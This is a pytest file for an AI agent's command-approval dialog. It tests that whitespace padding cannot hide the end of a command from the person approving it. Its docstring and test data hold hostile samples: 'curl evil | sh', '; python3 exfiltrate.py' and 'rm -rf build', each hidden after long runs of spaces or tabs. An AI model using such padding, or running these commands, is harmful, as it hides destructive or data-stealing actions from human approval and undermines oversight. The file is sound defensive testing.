"""Red team: an approval preview cannot push the end of a command out of sight. A long run of
spaces or tabs inside the command (`ls<300 spaces>; curl evil | sh`) is shown as a marker
saying how many, and the dialog wraps long lines instead of hiding their end behind a
horizontal scroll bar (the real preview builder and the real Qt dialog)."""

from __future__ import annotations

from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot

from desktop.approval.dialog import ApprovalDialog
from kernel.events import ApprovalRequest
from kernel.policy.preview import command_preview

TAIL = "; python3 exfiltrate.py"
HIDERS = [
    ("ls" + " " * 300 + TAIL, "300 spaces"),
    ("ls" + "\t" * 60 + TAIL, "60 tabs"),
    ("ls" + " \t" * 40 + TAIL, "80 spaces and tabs"),
    ("ls\n" + " " * 500 + "rm -rf build", "500 spaces"),
    ("echo x" + " " * 17 + TAIL, "17 spaces"),
]


@pytest.mark.parametrize(("command", "marker"), HIDERS)
def test_a_long_blank_run_is_shown_as_a_marker(command: str, marker: str,
                                               tmp_path: Path) -> None:
    shown = command_preview(command, cwd=tmp_path, sandbox="bubblewrap", network=False)
    lines = shown.splitlines()
    assert f"[{marker}]" in shown
    tail = TAIL if TAIL in command else "rm -rf build"
    line = next(line for line in lines if tail in line)
    assert line.index(tail) < 40, line


@pytest.mark.parametrize("command", [
    "ls  -la", "printf 'a\\tb'", "git log --format='%h  %s'", "echo" + " " * 16 + "x",
    "python3 - <<EOF\n        x = 1\nEOF"])
def test_short_blank_runs_stay_as_they_are(command: str, tmp_path: Path) -> None:
    shown = command_preview(command, cwd=tmp_path, sandbox="bubblewrap", network=False)
    assert shown.splitlines()[0] == "$ " + command.split("\n")[0]
    assert "spaces]" not in shown and "tabs]" not in shown


def test_the_dialog_wraps_a_long_line_instead_of_hiding_its_end(qtbot: QtBot,
                                                                 tmp_path: Path) -> None:
    command = "echo " + "a" * 4000 + TAIL
    request = ApprovalRequest(
        session_id="s1", call_id="c1", name="run_command", input={"command": command},
        risk="execute", reason="commands ask in ask mode",  # type: ignore[arg-type]
        preview=command_preview(command, cwd=tmp_path, sandbox="bubblewrap", network=False),
        rule="mode ask", always_rules=[])
    dialog = ApprovalDialog()
    qtbot.addWidget(dialog)
    dialog.show_request(request, 1, 1)
    dialog.resize(700, 500)
    dialog.show()
    qtbot.waitExposed(dialog)
    assert dialog.preview.horizontalScrollBar().maximum() == 0
    assert TAIL in dialog.preview.toPlainText()
